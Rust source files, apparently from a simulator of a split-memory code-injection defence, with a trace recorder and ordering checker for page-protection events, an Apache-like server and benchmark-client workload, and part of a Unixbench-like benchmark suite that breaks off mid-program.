            pid_filter: None,
            buf: VecDeque::with_capacity(capacity.min(4096)),
        }
    }

    /// Rebuild a tracer from checkpoint metadata: same mask, capacity and
    /// filter, sequence counter resumed at `next_seq`, ring empty. Records
    /// emitted after restore splice seamlessly onto the pre-checkpoint
    /// stream (the ring contents themselves are deliberately not part of a
    /// snapshot — they are an observation, not machine state).
    pub fn restore_meta(
        mask: u32,
        capacity: usize,
        next_seq: u64,
        pid_filter: Option<u32>,
    ) -> Tracer {
        let mut t = Tracer::new(mask, capacity);
        t.next_seq = next_seq;
        t.pid_filter = pid_filter;
        t
    }

    /// The enabled-layer mask.
    pub fn enabled(&self) -> u32 {
        self.enabled_mask
    }

    /// The ring capacity in records.
    pub fn capacity(&self) -> usize {
        self.capacity
    }

    /// The per-process filter, if one is set.
    pub fn pid_filter(&self) -> Option<u32> {
        self.pid_filter
    }

    /// Restrict recording to events involving `pid` (see
    /// [`TraceEvent::involves`]); `None` clears the filter. Filtered
    /// events never consume a sequence number.
    pub fn set_pid_filter(&mut self, pid: Option<u32>) {
        self.pid_filter = pid;
    }

    /// Enable additional layers (used by the kernel to OR its mask into
    /// the machine's tracer at construction), growing the ring to at least
    /// `capacity` records.
    pub fn enable(&mut self, mask: u32, capacity: usize) {
        if mask != 0 {
            self.capacity = self.capacity.max(capacity.max(1));
        }
        self.enabled_mask |= mask;
    }

    /// True if any layer in `layer` is enabled. Emit sites that need to
    /// gather data before constructing an event guard on this.
    #[inline(always)]
    pub fn wants(&self, layer: u32) -> bool {
        self.enabled_mask & layer != 0
    }

    /// Record `event` at `cycles` if its layer is enabled. The closure
    /// form ([`Tracer::emit`]) is preferred when building the event is not
    /// free.
    #[inline]
    pub fn record(&mut self, cycles: u64, event: TraceEvent) {
        if self.enabled_mask & event.layer() == 0 {
            return;
        }
        self.push(cycles, event);
    }

    /// Record the event produced by `f` at `cycles` if `layer` is enabled;
    /// `f` is not called otherwise.
    #[inline(always)]
    pub fn emit(&mut self, layer: u32, cycles: u64, f: impl FnOnce() -> TraceEvent) {
        if self.enabled_mask & layer == 0 {
            return;
        }
        self.push(cycles, f());
    }

    fn push(&mut self, cycles: u64, event: TraceEvent) {
        if let Some(pid) = self.pid_filter {
            if !event.involves(pid) {
                return;
            }
        }
        if self.buf.len() == self.capacity {
            self.buf.pop_front();
        }
        self.buf.push_back(TraceRecord {
            seq: self.next_seq,
            cycles,
            event,
        });
        self.next_seq += 1;
    }

    /// Total events ever recorded (including dropped ones).
    pub fn emitted(&self) -> u64 {
        self.next_seq
    }

    /// Events the ring has dropped to stay within capacity.
    pub fn dropped(&self) -> u64 {
        self.next_seq - self.buf.len() as u64
    }

    /// True if the ring no longer holds the whole stream.
    pub fn truncated(&self) -> bool {
        self.dropped() > 0
    }

    /// The retained records, oldest first.
    pub fn records(&self) -> impl Iterator<Item = &TraceRecord> {
        self.buf.iter()
    }

    /// The retained records as a contiguous vector (oldest first).
    pub fn snapshot(&self) -> Vec<TraceRecord> {
        self.buf.iter().copied().collect()
    }

    /// The last `n` records, oldest first.
    pub fn tail(&self, n: usize) -> Vec<TraceRecord> {
        self.buf
            .iter()
            .skip(self.buf.len().saturating_sub(n))
            .copied()
            .collect()
    }

    /// Render every retained record as JSONL (one object per line,
    /// trailing newline when non-empty).
    pub fn to_jsonl(&self) -> String {
        let mut out = String::new();
        for r in &self.buf {
            out.push_str(&r.to_json());
            out.push('\n');
        }
        out
    }

    /// Drop every retained record (the sequence counter keeps running).
    pub fn clear(&mut self) {
        self.buf.clear();
    }
}

/// Per-page protection state the ordering checker tracks.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum PageState {
    /// Transiently user-accessible; must close before anything else runs.
    Open,
    /// User-accessible under an armed single-step window.
    Armed,
}

/// Validate the *ordering* invariants of a trace (engine layer):
///
/// 1. Cycle stamps are monotonically non-decreasing.
/// 2. A `PteUnrestrict` window is closed — by `PteRestrict` or by arming a
///    single-step window — before any event other than the fault handler's
///    own TLB traffic; unrestricted pages never survive past the handler.
/// 3. At most one single-step window is armed per process, every
///    `StepFire`/`StepDisarm` matches an armed window, and a fired window
///    is re-restricted immediately.
/// 4. No process exits with an armed window (the PR 1 leak class).
/// 5. With `complete` set (the run finished and the ring did not wrap),
///    no page is left transiently open or armed at end of trace.
///
/// `truncated` relaxes the "matching open" checks for the ring-wrap case:
/// a dump that lost its head may legitimately begin mid-window, so
/// unmatched closes are ignored — but double-arms, window crossings and
/// stale opens are still reported.
pub fn check_order(records: &[TraceRecord], truncated: bool, complete: bool) -> Vec<String> {
    let mut violations = Vec::new();
    let mut prev_cycles = 0u64;
    let mut pages: HashMap<(u32, u32), PageState> = HashMap::new();
    let mut armed: HashMap<u32, u32> = HashMap::new();
    // The at-most-one transiently open page (engine fault handlers are
    // synchronous, so two simultaneous opens are themselves a violation).
    let mut open: Option<(u32, u32)> = None;

    for r in records {
        if r.cycles < prev_cycles {
            violations.push(format!(
                "seq {}: cycle stamp went backwards ({} after {})",
                r.seq, r.cycles, prev_cycles
            ));
        }
        prev_cycles = r.cycles;

        // Rule 2: while a page is transiently open, only the handler's own
        // TLB traffic or events resolving that same page may appear.
        if let Some((opid, ovpn)) = open {
            let same_page = match r.event {
                TraceEvent::PteRestrict { pid, vpn }
                | TraceEvent::StepArm { pid, vpn }
                | TraceEvent::PageUnsplit { pid, vpn } => pid == opid && vpn == ovpn,
                _ => false,
            };
            let handler_traffic = matches!(
                r.event,
                TraceEvent::TlbFill { .. }
                    | TraceEvent::TlbEvict { .. }
                    | TraceEvent::TlbFlush { .. }
            );
            if !same_page && !handler_traffic {
                violations.push(format!(
                    "seq {}: {:?} while page (pid {}, vpn {:#x}) was still unrestricted",
                    r.seq, r.event, opid, ovpn
                ));
                open = None; // report once, don't cascade
            }
        }

        match r.event {
            TraceEvent::PteUnrestrict { pid, vpn, .. } => {
                if pages.insert((pid, vpn), PageState::Open).is_some() {
                    violations.push(format!(
                        "seq {}: pid {} vpn {vpn:#x} unrestricted while already open/armed",
                        r.seq, pid
                    ));
                }
                open = Some((pid, vpn));
            }
            TraceEvent::PteRestrict { pid, vpn } => {
                // A restrict with no tracked open state is legal: degrade
                // and normalisation paths re-assert the at-rest PTE
                // idempotently, and a truncated trace may have lost the
                // matching unrestrict.
                pages.remove(&(pid, vpn));
                if open == Some((pid, vpn)) {
                    open = None;
                }
            }
            TraceEvent::StepArm { pid, vpn } => {
                match pages.get(&(pid, vpn)) {
                    Some(PageState::Open) => {}
                    _ if truncated => {}
                    other => violations.push(format!(
                        "seq {}: single-step armed on pid {} vpn {vpn:#x} in state {:?} (expected an open unrestrict)",
                        r.seq, pid, other
                    )),
                }
                if let Some(prior) = armed.insert(pid, vpn) {
                    violations.push(format!(
                        "seq {}: pid {} armed a second window (vpn {vpn:#x}) while vpn {prior:#x} was still armed",
                        r.seq, pid
                    ));
                }
                pages.insert((pid, vpn), PageState::Armed);
                if open == Some((pid, vpn)) {
                    open = None;
                }
            }
            TraceEvent::StepFire { pid, vpn, .. } => {
                match armed.remove(&pid) {
                    Some(av) if av != vpn => violations.push(format!(
                        "seq {}: pid {} window fired for vpn {vpn:#x} but vpn {av:#x} was armed",
                        r.seq, pid
                    )),
                    Some(_) => {}
                    None if truncated => {}
                    None => violations.push(format!(
                        "seq {}: pid {} debug trap fired with no armed window",
                        r.seq, pid
                    )),
                }
                // The fired page must now be re-restricted before anything
                // else runs.
                pages.insert((pid, vpn), PageState::Open);
                open = Some((pid, vpn));
            }
            TraceEvent::StepDisarm { pid, vpn, cause } => {
                if armed.remove(&pid).is_none() && !truncated {
                    violations.push(format!(
                        "seq {}: pid {} disarmed with no armed window",
                        r.seq, pid
                    ));
                }
                match cause {
                    DisarmCause::Detection => {
                        // The engine restores the at-rest PTE next.
                        pages.insert((pid, vpn), PageState::Open);
                        open = Some((pid, vpn));
                    }
                    DisarmCause::Exit => {
                        // Teardown frees the address space; nothing to close.
                        pages.remove(&(pid, vpn));
                    }
                }
            }
            TraceEvent::PageUnsplit { pid, vpn } => {
                pages.remove(&(pid, vpn));
                if open == Some((pid, vpn)) {
                    open = None;
                }
            }
            TraceEvent::ProcessExit { pid, .. } => {
                if let Some(vpn) = armed.remove(&pid) {
                    violations.push(format!(
                        "seq {}: pid {} exited with an armed window on vpn {vpn:#x}",
                        r.seq, pid
                    ));
                }
                pages.retain(|(p, _), _| *p != pid);
                if open.map(|(p, _)| p) == Some(pid) {
                    open = None;
                }
            }
            _ => {}
        }
    }

    if complete {
        let mut leftovers: Vec<String> = pages
            .iter()
            .map(|((pid, vpn), st)| {
                format!("end of trace: pid {pid} vpn {vpn:#x} left {st:?} (never re-restricted)")
            })
            .collect();
        leftovers.sort();
        violations.extend(leftovers);
    }
    violations
}

/// Why [`splice`] refused to join two segment streams.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum SpliceError {
    /// A seq number was skipped between two adjacent records: the second
    /// segment starts after where the first one ended.
    Gap {
        /// Last seq before the hole.
        after: u64,
        /// First seq after the hole.
        found: u64,
    },
    /// A seq number repeated (or went backwards): the segments overlap.
    Duplicate {
        /// The offending seq.
        seq: u64,
    },
}

impl std::fmt::Display for SpliceError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            SpliceError::Gap { after, found } => {
                write!(
                    f,
                    "seq gap: {found} follows {after} (expected {})",
                    after + 1
                )
            }
            SpliceError::Duplicate { seq } => write!(f, "seq {seq} emitted twice"),
        }
    }
}

/// Join per-segment trace streams into one contiguous stream.
///
/// Each element of `streams` is the record list one segment retained, in
/// emission order. The segments must tile the global seq space with no gap
/// and no overlap — exactly what a checkpoint/restore segment schedule
/// produces when every [`Tracer::restore_meta`] resumed at the seq its
/// predecessor stopped at. Any hole or repeat is a determinism bug in the
/// splicer's caller, so it is reported as a typed error rather than
/// silently merged.
pub fn splice(streams: &[Vec<TraceRecord>]) -> Result<Vec<TraceRecord>, SpliceError> {
    let mut out: Vec<TraceRecord> = Vec::with_capacity(streams.iter().map(Vec::len).sum());
    for stream in streams {
        for r in stream {
            if let Some(last) = out.last() {
                if r.seq <= last.seq {
                    return Err(SpliceError::Duplicate { seq: r.seq });
                }
                if r.seq != last.seq + 1 {
                    return Err(SpliceError::Gap {
                        after: last.seq,
                        found: r.seq,
                    });
                }
            }
            out.push(*r);
        }
    }
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rec(seq: u64, cycles: u64, event: TraceEvent) -> TraceRecord {
        TraceRecord { seq, cycles, event }
    }

    fn sw(seq: u64) -> TraceRecord {
        rec(seq, seq, TraceEvent::SchedSwitch { from: 0, to: 1 })
    }

    #[test]
    fn splice_joins_contiguous_segments() {
        let spliced =
            splice(&[vec![sw(3), sw(4)], vec![], vec![sw(5)], vec![sw(6), sw(7)]]).unwrap();
        let seqs: Vec<u64> = spliced.iter().map(|r| r.seq).collect();
        assert_eq!(seqs, vec![3, 4, 5, 6, 7]);
    }

    #[test]
    fn splice_rejects_gap_and_duplicate() {
        assert_eq!(
            splice(&[vec![sw(1)], vec![sw(3)]]),
            Err(SpliceError::Gap { after: 1, found: 3 })
        );
        assert_eq!(
            splice(&[vec![sw(1), sw(2)], vec![sw(2)]]),
            Err(SpliceError::Duplicate { seq: 2 })
        );
        let err = SpliceError::Gap { after: 1, found: 3 };
        assert_eq!(err.to_string(), "seq gap: 3 follows 1 (expected 2)");
    }

    #[test]
    fn disabled_tracer_records_nothing() {
        let mut t = Tracer::disabled();
        let mut called = false;
        t.emit(mask::ALL, 10, || {
            called = true;
            TraceEvent::SchedSwitch { from: 0, to: 1 }
        });
        t.record(11, TraceEvent::SchedSwitch { from: 1, to: 2 });
        assert!(!called);
        assert_eq!(t.emitted(), 0);
        assert!(t.snapshot().is_empty());
    }

    #[test]
    fn mask_filters_by_layer() {
        let mut t = Tracer::new(mask::SCHED, 16);
        t.record(1, TraceEvent::SchedSwitch { from: 0, to: 1 });
        t.record(2, TraceEvent::ProcessExit { pid: 1, code: 0 });
        assert_eq!(t.emitted(), 1);
        assert!(matches!(
            t.snapshot()[0].event,
            TraceEvent::SchedSwitch { .. }
        ));
    }

    #[test]
    fn ring_drops_oldest_and_reports_truncation() {
        let mut t = Tracer::new(mask::ALL, 2);
        for i in 0..5 {
            t.record(
                i,
                TraceEvent::SchedSwitch {
                    from: 0,
                    to: i as u32,
                },
            );
        }
        assert_eq!(t.emitted(), 5);
        assert_eq!(t.dropped(), 3);
        assert!(t.truncated());
        let snap = t.snapshot();
        assert_eq!(snap.len(), 2);
        assert_eq!(snap[0].seq, 3);
        assert_eq!(snap[1].seq, 4);
    }

    #[test]
    fn tail_returns_last_n_oldest_first() {
        let mut t = Tracer::new(mask::ALL, 8);
        for i in 0..6 {
            t.record(
                i,
                TraceEvent::SchedSwitch {
                    from: 0,
                    to: i as u32,
                },
            );
        }
        let tail = t.tail(2);
        assert_eq!(tail.len(), 2);
        assert_eq!(tail[0].seq, 4);
        assert_eq!(tail[1].seq, 5);
        assert_eq!(t.tail(100).len(), 6);
    }

    #[test]
    fn jsonl_is_one_valid_object_per_line() {
        let mut t = Tracer::new(mask::ALL, 8);
        t.record(
            7,
            TraceEvent::TlbFill {
                tlb: TlbSide::Instruction,
                vpn: 0x10,
                pfn: 3,
                set: 0,
                way: 0,
                class: MissClass::Cold,
            },
        );
        t.record(
            9,
            TraceEvent::PageFault {
                pid: 1,
                addr: 0x1000,
                eip: 0x1000,
                access: AccessKind::Fetch,
                present: true,
                verdict: FaultVerdict::Instruction,
            },
        );
        let out = t.to_jsonl();
        let lines: Vec<&str> = out.lines().collect();
        assert_eq!(lines.len(), 2);
        assert_eq!(
            lines[0],
            "{\"seq\":0,\"cycles\":7,\"kind\":\"tlb_fill\",\"tlb\":\"i\",\"vpn\":16,\"pfn\":3,\"set\":0,\"way\":0,\"class\":\"cold\"}"
        );
        assert_eq!(
            lines[1],
            "{\"seq\":1,\"cycles\":9,\"kind\":\"page_fault\",\"pid\":1,\"addr\":4096,\"eip\":4096,\"access\":\"fetch\",\"present\":true,\"verdict\":\"instruction\"}"
        );
    }

    #[test]
    fn pid_filter_drops_before_seq_assignment() {
        let mut t = Tracer::new(mask::ALL, 16);
        t.set_pid_filter(Some(2));
        t.record(1, TraceEvent::ProcessExit { pid: 1, code: 0 });
        t.record(2, TraceEvent::SchedSwitch { from: 1, to: 2 });
        t.record(3, TraceEvent::ProcessExit { pid: 2, code: 0 });
        // Machine-layer events carry no pid and always pass.
        t.record(
            4,
            TraceEvent::TlbFlush {
                scope: FlushScope::All,
                vpn: 0,
            },
        );
        let snap = t.snapshot();
        assert_eq!(t.emitted(), 3);
        let seqs: Vec<u64> = snap.iter().map(|r| r.seq).collect();
        assert_eq!(seqs, vec![0, 1, 2], "filtered stream must stay gap-free");
        assert!(matches!(snap[0].event, TraceEvent::SchedSwitch { .. }));
        assert!(matches!(
            snap[1].event,
            TraceEvent::ProcessExit { pid: 2, .. }
        ));
    }

    #[test]
    fn restore_meta_resumes_sequence_counter() {
        let mut t = Tracer::restore_meta(mask::ALL, 8, 41, Some(7));
        assert_eq!(t.capacity(), 8);
        assert_eq!(t.pid_filter(), Some(7));
        assert!(t.snapshot().is_empty());
        t.record(5, TraceEvent::ProcessExit { pid: 7, code: 0 });
        assert_eq!(t.snapshot()[0].seq, 41);
        assert_eq!(t.emitted(), 42);
    }

    /// The canonical Algorithm 2 window: unrestrict, arm, fire, restrict.
    #[test]
    fn well_formed_single_step_window_passes() {
        let recs = [
            rec(
                0,
                10,
                TraceEvent::PteUnrestrict {
                    pid: 1,
                    vpn: 4,
                    reload: ReloadKind::Code,
                },
            ),
            rec(1, 12, TraceEvent::StepArm { pid: 1, vpn: 4 }),
            rec(
                2,
                14,
                TraceEvent::TlbFill {
                    tlb: TlbSide::Instruction,
                    vpn: 4,
                    pfn: 9,
                    set: 0,
                    way: 0,
                    class: MissClass::Cold,
                },
            ),
            rec(
                3,
                16,
                TraceEvent::StepFire {
                    pid: 1,
                    eip: 0x4004,
                    vpn: 4,
                },
            ),
            rec(4, 18, TraceEvent::PteRestrict { pid: 1, vpn: 4 }),
        ];
        assert!(check_order(&recs, false, true).is_empty());
    }

    #[test]
    fn unclosed_unrestrict_is_flagged() {
        let recs = [
            rec(
                0,
                10,
                TraceEvent::PteUnrestrict {
                    pid: 1,
                    vpn: 4,
                    reload: ReloadKind::Data,
                },
            ),
            rec(1, 20, TraceEvent::SchedSwitch { from: 1, to: 2 }),
        ];
        let v = check_order(&recs, false, true);
        assert!(v.iter().any(|s| s.contains("still unrestricted")), "{v:?}");
    }

    #[test]
    fn exit_with_armed_window_is_flagged() {
        let recs = [
            rec(
                0,
                10,
                TraceEvent::PteUnrestrict {
                    pid: 1,
                    vpn: 4,
                    reload: ReloadKind::Code,
                },
            ),
            rec(1, 12, TraceEvent::StepArm { pid: 1, vpn: 4 }),
            rec(2, 20, TraceEvent::ProcessExit { pid: 1, code: 0 }),
        ];
        let v = check_order(&recs, false, true);
        assert!(v.iter().any(|s| s.contains("armed window")), "{v:?}");
    }

    #[test]
    fn double_arm_is_flagged() {
        let recs = [
            rec(
                0,
                10,
                TraceEvent::PteUnrestrict {
                    pid: 1,
                    vpn: 4,
                    reload: ReloadKind::Code,
                },
            ),
            rec(1, 12, TraceEvent::StepArm { pid: 1, vpn: 4 }),
            rec(
                2,
                14,
                TraceEvent::PteUnrestrict {
                    pid: 1,
                    vpn: 5,
                    reload: ReloadKind::Code,
                },
            ),
            rec(3, 16, TraceEvent::StepArm { pid: 1, vpn: 5 }),
        ];
        let v = check_order(&recs, false, false);
        assert!(v.iter().any(|s| s.contains("second window")), "{v:?}");
    }

    #[test]
    fn cycle_regression_is_flagged() {
        let recs = [
            rec(0, 10, TraceEvent::SchedSwitch { from: 0, to: 1 }),
            rec(1, 9, TraceEvent::SchedSwitch { from: 1, to: 0 }),
        ];
        let v = check_order(&recs, false, false);
        assert!(v.iter().any(|s| s.contains("backwards")), "{v:?}");
    }

    #[test]
    fn truncated_trace_tolerates_unmatched_closes() {
        // A ring that wrapped mid-window: fire and restrict with no
        // recorded arm.
        let recs = [
            rec(
                100,
                50,
                TraceEvent::StepFire {
                    pid: 1,
                    eip: 0x4004,
                    vpn: 4,
                },
            ),
            rec(101, 52, TraceEvent::PteRestrict { pid: 1, vpn: 4 }),
        ];
        assert!(check_order(&recs, true, false).is_empty());
        let v = check_order(&recs, false, false);
        assert!(v.iter().any(|s| s.contains("no armed window")), "{v:?}");
    }

    #[test]
    fn complete_trace_flags_leftover_open_pages() {
        let recs = [rec(
            0,
            10,
            TraceEvent::PteUnrestrict {
                pid: 1,
                vpn: 4,
                reload: ReloadKind::Data,
            },
        )];
        let v = check_order(&recs, false, true);
        assert!(v.iter().any(|s| s.contains("end of trace")), "{v:?}");
        assert!(check_order(&recs, false, false).is_empty());
    }

    #[test]
    fn disarm_on_detection_then_restrict_passes() {
        let recs = [
            rec(
                0,
                10,
                TraceEvent::PteUnrestrict {
                    pid: 1,
                    vpn: 4,
                    reload: ReloadKind::Code,
                },
            ),
            rec(1, 12, TraceEvent::StepArm { pid: 1, vpn: 4 }),
            rec(
                2,
                14,
                TraceEvent::StepDisarm {
                    pid: 1,
                    vpn: 4,
                    cause: DisarmCause::Detection,
                },
            ),
            rec(3, 16, TraceEvent::PteRestrict { pid: 1, vpn: 4 }),
            rec(
                4,
                18,
                TraceEvent::Detection {
                    pid: 1,
                    eip: 0x4000,
                    mode: ResponseKind::Break,
                },
            ),
            rec(5, 30, TraceEvent::ProcessExit { pid: 1, code: 139 }),
        ];
        assert!(check_order(&recs, false, true).is_empty());
    }
}
