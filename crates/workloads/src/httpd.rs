//! Apache-like web server + ApacheBench-like client (paper §6.2).
//!
//! Two guest processes: a server that accepts one connection per request
//! (`ab`'s default — no keep-alive) and answers with a page of a
//! configurable size, and a client that issues a fixed number of requests.
//! Every request costs connection setup plus request/response exchanges,
//! each forcing context switches between the two processes (plus extra
//! switches per pipe-capacity chunk for large pages). This is precisely
//! the overhead regime the paper studies: the 1 KB configuration "context
//! switches heavily while serving requests" (Fig. 7) while larger pages
//! amortise the flushes over more I/O (Fig. 8).

use crate::runner::{measure, workload_kconfig, WorkloadResult};
use sm_core::setup::Protection;
use sm_kernel::userlib::{BuiltProgram, ProgramBuilder};
use sm_machine::TlbPreset;

/// Port the workload server binds.
pub const HTTPD_PORT: u16 = 80;

/// Build the server for a given page size and request count (it exits
/// after serving `requests` connections).
pub fn server_program(page_size: u32, requests: u32) -> BuiltProgram {
    ProgramBuilder::new("/bin/httpd")
        .code(&format!(
            "_start:
                mov eax, SYS_LISTEN
                mov ebx, {port}
                int 0x80
                mov eax, {requests}
                mov [conns], eax
            accept_loop:
                mov eax, SYS_ACCEPT
                mov ebx, {port}
                int 0x80
                mov [connfd], eax
                ; one request per connection (ab without keep-alive)
                mov ebx, [connfd]
                mov edi, reqbuf
                mov edx, 32
                call read_line
                cmp eax, 0
                je close_conn
                ; request handling: parse, touch config/vhost tables and
                ; append to the access log — one pass over ten data pages,
                ; like Apache's per-request bookkeeping
                mov ecx, 0
            parse_loop:
                mov eax, ecx
                shl eax, 12
                inc dword [logarea+eax]
                inc ecx
                cmp ecx, 10
                jne parse_loop
                mov eax, {page_size}
                mov [remaining], eax
            send_loop:
                mov edx, [remaining]
                cmp edx, 1024
                jbe send_now
                mov edx, 1024
            send_now:
                mov eax, SYS_WRITE
                mov ebx, [connfd]
                mov ecx, pagebuf
                int 0x80
                cmp eax, 0
                jle close_conn
                mov edx, [remaining]
                sub edx, eax
                mov [remaining], edx
                cmp edx, 0
                jne send_loop
            close_conn:
                mov eax, SYS_CLOSE
                mov ebx, [connfd]
                int 0x80
                dec dword [conns]
                jnz accept_loop
                mov ebx, 0
                call exit",
            port = HTTPD_PORT,
        ))
        .data(
            "connfd: .word 0
             conns: .word 0
             remaining: .word 0
             reqbuf: .space 32
             pagebuf: .space 1024, 0x2e
             .align 4096
             logarea: .space 40960",
        )
        .build()
        .expect("httpd server assembles")
}

/// Build the client for a given page size and request count.
pub fn client_program(page_size: u32, requests: u32) -> BuiltProgram {
    ProgramBuilder::new("/bin/ab")
        .code(&format!(
            "_start:
                mov eax, {requests}
                mov [reqs], eax
            req_loop:
                mov eax, SYS_CONNECT
                mov ebx, {port}
                int 0x80
                mov [connfd], eax
                mov eax, SYS_WRITE
                mov ebx, [connfd]
                mov ecx, reqmsg
                mov edx, 6
                int 0x80
                mov eax, {page_size}
                mov [remaining], eax
            recv_loop:
                mov eax, SYS_READ
                mov ebx, [connfd]
                mov ecx, rcvbuf
                mov edx, 1024
                int 0x80
                cmp eax, 0
                jle failed
                mov edx, [remaining]
                sub edx, eax
                mov [remaining], edx
                cmp edx, 0
                jg recv_loop
                mov eax, SYS_CLOSE
                mov ebx, [connfd]
                int 0x80
                mov eax, [reqs]
                dec eax
                mov [reqs], eax
                cmp eax, 0
                jne req_loop
                mov ebx, 0
                call exit
            failed:
                mov ebx, 1
                call exit",
            port = HTTPD_PORT,
        ))
        .data(
            "connfd: .word 0
             reqs: .word 0
             remaining: .word 0
             reqmsg: .ascii \"GET /\\n\"
             rcvbuf: .space 1024",
        )
        .build()
        .expect("ab client assembles")
}

/// Run the benchmark: `requests` requests for a page of `page_size` bytes.
/// Work units = requests (so normalised results compare fairly only at
/// equal page sizes, as in the paper's figures).
pub fn run_httpd(protection: &Protection, page_size: u32, requests: u32) -> WorkloadResult {
    run_httpd_on(protection, TlbPreset::default(), page_size, requests)
}

/// [`run_httpd`] on an explicit TLB geometry.
pub fn run_httpd_on(
    protection: &Protection,
    tlb: TlbPreset,
    page_size: u32,
    requests: u32,
) -> WorkloadResult {
    let mut kernel = protection.kernel_warm_on(tlb, workload_kconfig());
    kernel
        .spawn(&server_program(page_size, requests).image)
        .expect("server spawns");
    kernel
        .spawn(&client_program(page_size, requests).image)
        .expect("client spawns");
    measure(
        kernel,
        format!("apache-{}k", page_size / 1024),
        protection,
        requests as u64,
        20_000_000_000,
    )
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::runner::normalized;
    use sm_kernel::events::ResponseMode;

    #[test]
    fn serves_requests_unprotected() {
        let r = run_httpd(&Protection::Unprotected, 4096, 20);
        assert_eq!(r.units, 20);
        assert!(r.cycles > 0);
        assert!(r.kernel.context_switches > 20, "{:?}", r.kernel);
    }

    #[test]
    fn split_memory_slows_but_completes() {
        let base = run_httpd(&Protection::Unprotected, 4096, 20);
        let prot = run_httpd(&Protection::SplitMem(ResponseMode::Break), 4096, 20);
        let n = normalized(&prot, &base);
        assert!(n < 1.0, "split memory should cost something: {n}");
        assert!(n > 0.1, "split memory costs implausibly much: {n}");
    }

    #[test]
    fn larger_pages_amortise_better() {
        // The Fig. 8 monotonicity at its endpoints.
        let b1 = run_httpd(&Protection::Unprotected, 1024, 25);
        let p1 = run_httpd(&Protection::SplitMem(ResponseMode::Break), 1024, 25);
        let b32 = run_httpd(&Protection::Unprotected, 32768, 25);
        let p32 = run_httpd(&Protection::SplitMem(ResponseMode::Break), 32768, 25);
        let n1 = normalized(&p1, &b1);
        let n32 = normalized(&p32, &b32);
        assert!(
            n32 > n1,
            "32K pages should amortise better: 1K={n1:.3} 32K={n32:.3}"
        );
    }
}
