//! Unixbench-like micro-benchmark suite (paper §6.2: used "to test various
//! aspects of the system's performance at tasks such as process creation,
//! pipe throughput, filesystem throughput, etc." — overall ≈82%, with the
//! pipe-based context-switching test as the stand-alone worst case of
//! Fig. 7).

use crate::runner::{measure, workload_kconfig, WorkloadResult};
use sm_core::setup::Protection;
use sm_kernel::userlib::{BuiltProgram, ProgramBuilder};
use sm_machine::TlbPreset;

/// The sub-benchmarks.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum UnixbenchTest {
    /// Raw syscall overhead (`getpid` loop).
    Syscall,
    /// Pipe throughput within one process.
    PipeThroughput,
    /// Pipe-based context switching between two processes — the paper's
    /// worst case.
    PipeContextSwitch,
    /// Process creation: fork + exit + waitpid.
    Spawn,
    /// execve of a trivial binary.
    Execl,
    /// Filesystem write/read cycles.
    FsThroughput,
    /// Dhrystone-like integer/string mix (part of the real Unixbench
    /// index).
    Dhrystone,
    /// Whetstone-like arithmetic kernel (integer-emulated, as the paper's
    /// P3 era fp-emulation tests were).
    Whetstone,
}

impl UnixbenchTest {
    /// All sub-benchmarks.
    pub const ALL: [UnixbenchTest; 8] = [
        UnixbenchTest::Dhrystone,
        UnixbenchTest::Whetstone,
        UnixbenchTest::Syscall,
        UnixbenchTest::PipeThroughput,
        UnixbenchTest::PipeContextSwitch,
        UnixbenchTest::Spawn,
        UnixbenchTest::Execl,
        UnixbenchTest::FsThroughput,
    ];

    /// Label.
    pub fn name(&self) -> &'static str {
        match self {
            UnixbenchTest::Syscall => "syscall",
            UnixbenchTest::PipeThroughput => "pipe-throughput",
            UnixbenchTest::PipeContextSwitch => "pipe-ctxsw",
            UnixbenchTest::Spawn => "spawn",
            UnixbenchTest::Execl => "execl",
            UnixbenchTest::FsThroughput => "fs-throughput",
            UnixbenchTest::Dhrystone => "dhrystone",
            UnixbenchTest::Whetstone => "whetstone",
        }
    }
}

/// Build one sub-benchmark program with the given iteration count.
pub fn unixbench_program(test: UnixbenchTest, iterations: u32) -> BuiltProgram {
    let (code, data) = match test {
        UnixbenchTest::Syscall => (
            format!(
                "_start:
                    mov dword [iter], {iterations}
                loop_top:
                    mov eax, SYS_GETPID
                    int 0x80
                    dec dword [iter]
                    jnz loop_top
                    mov ebx, 0
                    call exit"
            ),
            "iter: .word 0".to_string(),
        ),
        UnixbenchTest::PipeThroughput => (
            format!(
                "_start:
                    mov eax, SYS_PIPE
                    mov ebx, fds
                    int 0x80
                    mov dword [iter], {iterations}
                loop_top:
                    mov eax, SYS_WRITE
                    mov ebx, [fds+4]
                    mov ecx, buf
                    mov edx, 512
                    int 0x80
                    mov eax, SYS_READ
                    mov ebx, [fds]
                    mov ecx, buf
                    mov edx, 512
                    int 0x80
                    dec dword [iter]
                    jnz loop_top
                    mov ebx, 0
                    call exit"
            ),
            "iter: .word 0
             fds: .space 8
             buf: .space 512"
                .to_string(),
        ),
        UnixbenchTest::PipeContextSwitch => (
            format!(
                "_start:
                    mov eax, SYS_PIPE
                    mov ebx, fds1
                    int 0x80
                    mov eax, SYS_PIPE
                    mov ebx, fds2
                    int 0x80
                    mov eax, SYS_FORK
                    int 0x80
                    cmp eax, 0
                    je child
                ; parent: send a token, wait for the echo — two context
                ; switches per iteration, TLBs flushed each time.
                    mov dword [iter], {iterations}
                p_loop:
                    mov eax, SYS_WRITE
                    mov ebx, [fds1+4]
                    mov ecx, token
                    mov edx, 4
                    int 0x80
                    mov eax, SYS_READ
                    mov ebx, [fds2]
                    mov ecx, token
                    mov edx, 4
                    int 0x80
                    dec dword [iter]
                    jnz p_loop
                    mov eax, SYS_CLOSE
                    mov ebx, [fds1+4]
                    int 0x80
                    mov eax, SYS_WAITPID
                    mov ebx, -1
                    mov ecx, 0
                    int 0x80
                    mov ebx, 0
                    call exit
                child:
                c_loop:
                    mov eax, SYS_READ
                    mov ebx, [fds1]
                    mov ecx, ctoken
                    mov edx, 4
                    int 0x80
                    cmp eax, 0
                    jle c_done
                    mov eax, SYS_WRITE
                    mov ebx, [fds2+4]
                    mov ecx, ctoken
                    mov edx, 4
                    int 0x80
                    jmp c_loop
                c_done:
                    mov ebx, 0
                    call exit"
            ),
            "iter: .word 0
             fds1: .space 8
             fds2: .space 8
             token: .word 0x504f4e47
             ctoken: .word 0"
                .to_string(),
        ),
        UnixbenchTest::Spawn => (
            format!(
                "_start:
                    mov dword [iter], {iterations}
                loop_top:
                    mov eax, SYS_FORK
                    int 0x80
